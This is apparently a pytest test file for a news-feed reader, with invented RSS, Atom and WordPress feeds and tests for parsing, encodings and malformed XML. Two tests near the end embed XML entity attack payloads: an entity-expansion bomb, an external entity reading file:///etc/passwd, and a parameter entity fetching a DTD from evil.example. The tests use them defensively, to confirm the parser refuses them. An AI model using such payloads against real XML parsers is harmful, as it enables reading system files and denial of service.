"""Feeds as publishers, content systems and aggregators write them, all invented."""

from __future__ import annotations

from datetime import date

import pytest

from index.articles import read_articles
from index.articles.stated import Stated, Unreadable
from index.articles.xml import read_xml
from index.types import ReadArticle

SUMMARY = ("doubtful", "summary only")


def entries(feed: str | bytes) -> list[Stated]:
    data = feed.encode() if isinstance(feed, str) else feed
    found = list(read_xml(data))
    assert all(isinstance(each, Stated) for each in found), found
    return found


def rss(*items: str, head: str = "", spaces: str = "") -> str:
    inside = "".join(f"<item>{item}</item>" for item in items)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" {spaces}><channel>'
        f"<title>Moor Radio</title><link>https://moor.example/</link>{head}{inside}</channel></rss>"
    )


WORDPRESS = rss(
    """<title>Peat fire out, say crews &#8211; at last</title>
    <link>https://moor.example/2031/06/peat/</link>
    <dc:creator><![CDATA[Ada Fenn]]></dc:creator>
    <pubDate>Tue, 03 Jun 2031 09:00:00 +0200</pubDate>
    <category><![CDATA[Fires]]></category><category><![CDATA[Hask]]></category>
    <guid isPermaLink="false">https://moor.example/?p=1042</guid>
    <description><![CDATA[<p>The fire is out. [&#8230;]</p>
    <p>The post <a href="https://moor.example/2031/06/peat/">Peat fire out</a> appeared first on
    <a href="https://moor.example">Moor Radio</a>.</p>]]></description>
    <content:encoded><![CDATA[<figure class="wp-block-image"><img src="a.jpg" alt="Smoke"/>
    <figcaption>Smoke over Hask</figcaption></figure>
<p>The peat fire near Hask is out.</p>
<h2>Eleven days</h2>
<p>It burned for eleven days,<br />the brigade said.</p>
<p>The post <a href="https://moor.example/2031/06/peat/">Peat fire out</a> appeared first on
    <a href="https://moor.example">Moor Radio</a>.</p>]]></content:encoded>
    <slash:comments>3</slash:comments>""",
    head="<description>News</description><language>en-GB</language>"
    "<image><url>https://moor.example/a.png</url><title>Moor logo</title>"
    "<link>https://moor.example/logo</link></image><sy:updatePeriod>hourly</sy:updatePeriod>",
    spaces='xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:slash="http://purl.org/rss/1.0/modules/slash/" '
    'xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"',
)
NEWSPAPER = rss(
    """<title><![CDATA[Ferry & tram strike ends]]></title>
    <description>Crews return on Friday after a pay deal, the &lt;b&gt;union&lt;/b&gt; said.
    </description><link>https://moor.example/strike?at=rss&amp;x=1</link>
    <guid isPermaLink="true">https://moor.example/strike</guid>
    <pubDate>Fri, 06 Jun 2031 18:30:00 GMT</pubDate>
    <media:content url="https://i.moor.example/a.jpg" medium="image">
      <media:title>A tram</media:title>
      <media:description type="plain">A tram stands at the depot.</media:description>
      <media:credit>Jon Asch</media:credit></media:content>""",
    spaces='xmlns:media="http://search.yahoo.com/mrss/"',
)
AGGREGATOR = rss(
    """<title>Dam wall holds at Vell - Vell Courier</title>
    <link>https://news.example/articles/CBM9</link>
    <guid isPermaLink="false">CBM9</guid><pubDate>Mon, 09 Jun 2031 07:00:00 GMT</pubDate>
    <description>&lt;p&gt;The dam wall held.&lt;/p&gt;</description>
    <source url="https://vell.example">Vell Courier</source>"""
)
OLD_RSS = """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.example/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Caf\xe9 Zeitung</title><link>https://cafe.example</link>
<language>de</language><item><title>Br\xfccke gesperrt</title>
<link>https://cafe.example/1</link><description>Die Br&uuml;cke ist zu.</description></item>
</channel></rss>""".encode("latin-1")
RDF = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://tarn.example/"><title>Tarn Gazette</title>
<link>https://tarn.example/</link><items><rdf:Seq><rdf:li rdf:resource="https://tarn.example/7"/>
</rdf:Seq></items></channel>
<item rdf:about="https://tarn.example/7"><title>Quake hits Tarn</title>
<link>https://tarn.example/7</link><description>A quake hit Tarn.</description>
<dc:creator>Bo Lind</dc:creator><dc:date>2031-06-03T11:15:00+02:00</dc:date>
<dc:subject>Science</dc:subject></item></rdf:RDF>"""
ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en" xml:base="https://isle.example/">
<title type="text">Isle Times</title><link href="https://isle.example/"/>
<link rel="self" href="https://isle.example/feed.atom"/><updated>2031-06-03T12:00:00Z</updated>
<entry><title type="html">Ferry &lt;em&gt;Luna&lt;/em&gt; resumes</title>
<link rel="alternate" type="text/html" href="/ferry"/>
<link rel="replies" type="application/atom+xml" href="/ferry/comments"/>
<id>tag:isle.example,2031:ferry</id><published>2031-06-02T08:00:00+02:00</published>
<updated>2031-06-03T12:00:00+02:00</updated>
<author><name>Mira Holt</name><email>mira@isle.example</email></author>
<author><name>Jon Asch</name></author><category term="sea" label="At sea"/>
<summary>The ferry sails.</summary>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>The ferry sails again.</p>
<ul><li>Monday: 4 crossings</li><li>Sunday: 2</li></ul></div></content></entry></feed>"""
ATOM_BLOG = """<?xml version='1.0' encoding='UTF-8'?>
<feed xmlns='http://www.w3.org/2005/Atom'><title type='text'>Mill Notes</title>
<author><name>Ada Fenn</name></author><id>tag:mill.example,2031:blog</id>
<entry><id>tag:mill.example,2031:post-1</id><updated>2031-02-11T09:00:00.001-08:00</updated>
<title type='text'>Pay &lt; prices</title><category scheme='https://mill.example/ns' term='strike'/>
<content type='html'>The strike goes on.&lt;br /&gt;&lt;br /&gt;345 came.</content>
<link rel='alternate' type='text/html' href='https://mill.example/1' title='x'/></entry></feed>"""
PODCAST = rss(
    """<title>Episode 4: the dam</title><itunes:author>Moor Radio</itunes:author>
    <description>How the dam held.</description><itunes:summary>How the dam held.</itunes:summary>
    <enclosure url="https://moor.example/4.mp3" length="1" type="audio/mpeg"/>
    <guid>urn:uuid:4</guid>""",
    spaces='xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"',
)
TABLE = rss(
    """<title>Results</title><link>https://moor.example/results</link>
    <description>&lt;p&gt;All counted:&lt;/p&gt;&lt;table&gt;&lt;tr&gt;&lt;td&gt;Tarn&lt;/td&gt;
    &lt;td&gt;4,512&lt;/td&gt;&lt;/tr&gt;&lt;tr&gt;&lt;td&gt;Vell&lt;/td&gt;&lt;td&gt;12&amp;nbsp;500
    &lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;</description>"""
)
READ_MORE = rss(
    """<title>Storm Ada nears</title><author>desk@moor.example (Ines Toll)</author>
    <description>&lt;p&gt;The storm nears the coast. &lt;a href="x"&gt;Continue reading &lt;span&gt;
    Storm Ada nears&lt;/span&gt; &amp;rarr;&lt;/a&gt;&lt;/p&gt;</description>
    <pubDate>3. Juni 2031</pubDate><guid isPermaLink="false">88</guid>"""
)
GERMAN = rss(
    """<title>Zug entgleist</title><link>https://moor.example/zug</link>
    <description><![CDATA[Ein Zug ist entgleist.
    <p>Der Beitrag <a href="x">Zug entgleist</a> erschien zuerst auf <a href="y">Moor</a>.</p>
    ]]></description>"""
)
BURNED = rss(
    """<title>Well dry</title><link>https://feeds.example/~r/moor/1</link>
    <description>The well is dry.</description>
    <feedburner:origLink>https://moor.example/well</feedburner:origLink>""",
    spaces='xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0"',
)
ENTITIES = rss(
    "<title>Q&amp;amp;A: the mayor&amp;#8217;s plan</title><link>https://moor.example/qa</link>"
    "<description>She&nbsp;said &euro;3.5m &amp;lt; 4m.</description>"
)
EXPORT = rss(
    """<title>Mill shut</title><link>https://moor.example/mill</link>
    <pubDate>Tue, 11 Feb 2031 08:00:00 +0000</pubDate><dc:creator>ada</dc:creator>
    <content:encoded><![CDATA[The mill is shut.

It may open in May.]]></content:encoded><excerpt:encoded><![CDATA[]]></excerpt:encoded>
    <wp:post_type>post</wp:post_type><wp:status>publish</wp:status>""",
    """<title>mill.jpg</title><wp:post_type>attachment</wp:post_type>
    <wp:status>inherit</wp:status><description>A mill</description>""",
    """<title>Not yet</title><wp:post_type>post</wp:post_type><wp:status>draft</wp:status>
    <content:encoded>Not yet out.</content:encoded>""",
    spaces='xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/"',
)

VIDEOS = """<feed xmlns:media="http://search.yahoo.com/mrss/" xmlns="http://www.w3.org/2005/Atom">
<title>Moor Radio</title><entry><id>yt:video:1</id><title>The dam, seen from above</title>
<link rel="alternate" href="https://tube.example/watch?v=1"/>
<published>2031-06-03T09:00:00+00:00</published><media:group>
<media:title>The dam, seen from above</media:title><media:content url="https://tube.example/v/1"/>
<media:description>The dam holds.\n\nFilmed on Tuesday.</media:description></media:group></entry>
</feed>"""
MEDIUM = rss(
    """<title><![CDATA[Why peat burns]]></title><link>https://medium.example/peat?source=rss</link>
    <dc:creator><![CDATA[Ada Fenn]]></dc:creator>
    <atom:updated>2031-06-03T09:00:00.000Z</atom:updated>
    <content:encoded><![CDATA[<h3>Why peat burns</h3><p>Peat burns slowly.</p><img src="x" width="1"
    height="1"><hr><p><a href="x">Why peat burns</a> was originally published in
    <a href="y">Moor</a> on Medium, where people are continuing the conversation.
    </p>]]></content:encoded>""",
    spaces='xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom"',
)

FEEDS = {
    "a channel's of videos": (
        VIDEOS,
        {
            "id": "yt:video:1",
            "text": "The dam holds.\n\nFilmed on Tuesday.",
            "url": "https://tube.example/watch?v=1",
        },
        [SUMMARY],
    ),
    "a platform's that repeats the title": (
        MEDIUM,
        {
            "title": "Why peat burns",
            "text": "Peat burns slowly.",
            "published": "2031-06-03T09:00:00.000Z",
        },
        [("left out", "link to the page")],
    ),
    "a content system's": (
        WORDPRESS,
        {
            "id": "https://moor.example/?p=1042",
            "title": "Peat fire out, say crews – at last",
            "text": "The peat fire near Hask is out.\n\nEleven days\n\n"
            "It burned for eleven days,\nthe brigade said.",
            "url": "https://moor.example/2031/06/peat/",
            "outlet": "Moor Radio",
            "published": "Tue, 03 Jun 2031 09:00:00 +0200",
            "authors": "Ada Fenn",
            "section": "Fires",
            "language": "en-GB",
        },
        [("left out", "caption"), ("left out", "link to the page")],
    ),
    "a newspaper's with pictures": (
        NEWSPAPER,
        {
            "title": "Ferry & tram strike ends",
            "text": "Crews return on Friday after a pay deal, the union said.",
            "url": "https://moor.example/strike?at=rss&x=1",
            "id": "https://moor.example/strike",
        },
        [("left out", "caption"), SUMMARY],
    ),
    "an aggregator's": (
        AGGREGATOR,
        {
            "title": "Dam wall holds at Vell",
            "outlet": "Vell Courier",
            "id": "https://moor.example/ CBM9",
            "text": "The dam wall held.",
        },
        [SUMMARY],
    ),
    "RSS 0.91 in Latin-1 with a DTD": (
        OLD_RSS,
        {
            "title": "Brücke gesperrt",
            "text": "Die Brücke ist zu.",
            "outlet": "Café Zeitung",
            "language": "de",
            "published": "",
        },
        [SUMMARY],
    ),
    "RSS 1.0": (
        RDF,
        {
            "id": "https://tarn.example/7",
            "outlet": "Tarn Gazette",
            "published": "2031-06-03T11:15:00+02:00",
            "updated": "",
            "authors": "Bo Lind",
            "section": "Science",
        },
        [SUMMARY],
    ),
    "Atom with XHTML": (
        ATOM,
        {
            "id": "tag:isle.example,2031:ferry",
            "title": "Ferry Luna resumes",
            "text": "The ferry sails again.\n\n- Monday: 4 crossings\n- Sunday: 2",
            "url": "https://isle.example/ferry",
            "published": "2031-06-02T08:00:00+02:00",
            "updated": "2031-06-03T12:00:00+02:00",
            "authors": ["Mira Holt", "Jon Asch"],
            "section": "At sea",
            "language": "en",
        },
        [],
    ),
    "a blog's in Atom": (
        ATOM_BLOG,
        {
            "title": "Pay < prices",
            "text": "The strike goes on.\n\n345 came.",
            "published": "2031-02-11T09:00:00.001-08:00",
            "updated": "",
            "authors": "Ada Fenn",
            "section": "strike",
            "outlet": "Mill Notes",
        },
        [],
    ),
    "a podcast's": (PODCAST, {"text": "How the dam held.", "id": "urn:uuid:4"}, None),
    "one with a table": (
        TABLE,
        {"text": "All counted:\n\nTarn | 4,512\nVell | 12\xa0500"},
        [SUMMARY],
    ),
    "one that links to the rest": (
        READ_MORE,
        {
            "text": "The storm nears the coast.",
            "authors": "Ines Toll",
            "published": "3. Juni 2031",
            "id": "https://moor.example/ 88",
        },
        [("left out", "link to the page"), SUMMARY],
    ),
    "one in German": (
        GERMAN,
        {"text": "Ein Zug ist entgleist."},
        [("left out", "link to the page"), SUMMARY],
    ),
    "one behind a counter of clicks": (BURNED, {"url": "https://moor.example/well"}, [SUMMARY]),
    "one with entities twice over": (
        ENTITIES,
        {"title": "Q&A: the mayor’s plan", "text": "She\xa0said €3.5m < 4m."},
        [SUMMARY],
    ),
    "an export of a whole site": (
        EXPORT,
        {"title": "Mill shut", "text": "The mill is shut.\n\nIt may open in May."},
        [("left out", "attachment"), ("left out", "draft")],
    ),
}


@pytest.mark.parametrize("name", FEEDS)
def test_a_feed_gives_an_article_an_entry(name):
    feed, expected, notes = FEEDS[name]
    [entry] = entries(feed)
    assert {field: entry.fields[field] for field in expected} == expected
    assert notes is None or [(note.kind, note.what) for note in entry.notes] == notes


@pytest.mark.parametrize("ending", [".xml", ".rss"])
def test_a_feed_is_read_from_a_file(tmp_path, ending):
    path = tmp_path / f"feed{ending}"
    item = "<title>Well dry</title><description>The well is dry.</description>"
    path.write_text(rss(f"{item}<pubDate>Tue, 03 Jun 2031 09:00:00 GMT</pubDate>"))
    [found] = read_articles([path])
    assert isinstance(found, ReadArticle)
    assert (found.article.title, found.article.outlet) == ("Well dry", "Moor Radio")
    assert found.article.published == date(2031, 6, 3)


def test_an_entry_without_text_is_named_and_keeps_no_other_back():
    item = "<title>Well dry</title><description>Well dry</description>"
    bare, whole = read_xml(rss(item, f"{item}<description>It is.</description>").encode())
    assert isinstance(bare, Unreadable)
    assert "“Well dry” has no text beside its title" in str(bare)
    assert isinstance(whole, Stated)


def test_an_entry_whose_content_ends_in_dots_is_cut_off():
    item = "<title>a</title><content:encoded>The well is […]</content:encoded>"
    spaces = 'xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    [entry] = entries(rss(item, spaces=spaces))
    assert entry.fields["text"] == "The well is"
    assert ("doubtful", "text that is cut off") in [(n.kind, n.what) for n in entry.notes]


def test_words_such_as_read_more_within_a_text_stay():
    said = "“Read more books”, she said. He chose to continue reading the post."
    [entry] = entries(rss(f"<title>a</title><description>{said}</description>"))
    assert entry.fields["text"] == said


def test_a_feed_with_a_broken_sign_is_mended_with_a_note():
    [entry] = entries(rss("<title>a</title><description>R & D goes on.</description>"))
    assert entry.fields["text"] == "R & D goes on."
    assert (entry.notes[0].kind, entry.notes[0].what) == ("mended", "markup error")


def test_a_feed_that_is_broken_before_its_root_is_read():
    feed = rss("<title>a</title><description>One.</description>").replace("<rss", "<<rss", 1)
    [entry] = entries(feed)
    assert entry.fields["text"] == "One."


def test_numbers_of_no_character_do_not_break_a_feed():
    text = "a&#0;b&#x1F;c&#x110000;d&#99999999999999;e&#x41;"
    [entry] = entries(rss(f"<title>a</title><description>{text}</description>"))
    assert entry.fields["text"] == "a\ufffdb\ufffdc\ufffdd\ufffdeA"
    assert [note.what for note in entry.notes] == ["summary only"]


def test_a_feed_that_breaks_off_gives_what_was_read_and_says_so():
    feed = rss("<title>a</title><description>One.</description>", "<title>b</title>")
    first, second, end = read_xml(feed[: feed.index("<title>b")].encode())
    assert isinstance(first, Stated)
    assert isinstance(second, Unreadable)
    assert "breaks off" in str(end)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">',
        '<!ENTITY c SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;',
    ],
)
def test_no_entity_that_a_file_declares_is_expanded(doctype):
    item = "<item><title>&c;</title><description>&c;</description></item>"
    feed = f"<!DOCTYPE rss [{doctype}]><rss><channel>{item}</channel></rss>"
    with pytest.raises(Unreadable, match="declares entities of its own"):
        list(read_xml(feed.encode()))


def test_no_entity_is_expanded_in_a_feed_that_is_broken_before_its_root():
    bomb = '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">'
    item = "<item><title>a</title><description>One. &b; &c;</description></item>"
    feed = f"&<!DOCTYPE rss [{bomb}]><rss><channel>{item}</channel></rss>"
    [entry] = entries(feed)
    assert entry.fields["text"] == "One. &b; &c;"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("<urlset><url><loc>https://a.example</loc></url></urlset>", "a sitemap"),
        ("<opml version='2.0'><body/></opml>", "a list of feeds"),
        ("<html><body>x</body></html>", "a web page; give it the ending .html"),
        ("<rss><channel><title>a</title></channel></rss>", "a feed without entries"),
        ("<invoice><sum>3</sum></invoice>", "its root is <invoice>"),
        ("<invoice><sum>3</invoice>", "broken XML"),
        ("no XML at all", "broken XML"),
        ("<a>" * 300, "nested more than 200 deep"),
    ],
)
def test_other_xml_is_refused_with_the_reason(content, reason):
    with pytest.raises(Unreadable, match=reason):
        list(read_xml(content.encode()))


def test_a_feed_in_an_encoding_of_its_own_is_read():
    item = "<title>橋が閉鎖</title><description>橋は閉鎖された。</description>"
    feed = rss(item).replace("UTF-8", "Shift_JIS").encode("shift_jis")
    assert entries(feed)[0].fields["title"] == "橋が閉鎖"
    assert entries(rss(item).replace("UTF-8", "utf-16").encode("utf-16"))[0].fields["text"]
